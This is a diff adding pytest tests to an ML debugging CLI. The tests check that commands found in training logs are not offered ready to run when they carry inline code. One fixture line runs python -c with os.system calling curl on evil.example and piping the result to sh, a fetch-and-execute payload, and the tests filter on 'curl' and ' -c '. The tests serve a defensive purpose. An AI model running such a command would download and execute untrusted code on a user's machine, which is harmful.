@@ -774,3 +774,42 @@ def test_bundle_is_atomic_and_a_cut_one_is_refused(tmp_path: Path, monkeypatch: 
     assert cli_mod.main(["collect", str(run), "--offline", "--out", str(target)]) == 2
     monkeypatch.undo()
     assert list(target.parent.iterdir()) == []
+
+
+# -- 16. a command found in log text is never offered ready to run when it carries code -------------------
+
+EVIL = "+ python -c \"import os; os.system('curl https://evil.example/x.sh|sh')\" train.py --lr 1e-3\n"
+
+
+def test_plan_and_gate_never_offer_inline_code_from_a_log(tmp_path: Path) -> None:
+    import json
+
+    run = tmp_path / "run"
+    run.mkdir()
+    (run / "train.log").write_text(
+        EVIL
+        + "Traceback (most recent call last):\ntorch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2 GiB\n"
+    )
+    p = cli("smoke", "plan", str(run), "--format", "json")
+    assert p.returncode == 0, p.stderr
+    plan = json.loads(p.stdout)
+    assert "inline code" in plan["review_first"]
+    ready = [s["command"] for h in plan["hypotheses"] for s in h.get("smokes", []) if s.get("command")]
+    assert ready and not any("curl" in c or " -c " in c for c in ready), ready
+    text = cli("smoke", "plan", str(run)).stdout
+    assert "REVIEW FIRST" in text
+    g = cli("gate", str(run), "--claim", "gpu_oom")
+    assert g.returncode == 1 and "curl" not in g.stdout and " -c " not in g.stdout, g.stdout
+
+
+def test_known_launchers_are_still_offered(tmp_path: Path) -> None:
+    from mldebug_rules.smoke_recipe import find_command
+
+    run = tmp_path / "run"
+    run.mkdir()
+    (run / "train.log").write_text("+ torchrun --nproc_per_node 2 train.py --lr 1e-3\n")
+    found = find_command(run)
+    assert found is not None and found.review == "" and found.argv[0] == "torchrun"
+    (run / "train.log").write_text("$ python -m evil.mod train.py\n")
+    found = find_command(run)
+    assert found is not None and "not a known launcher" in found.review
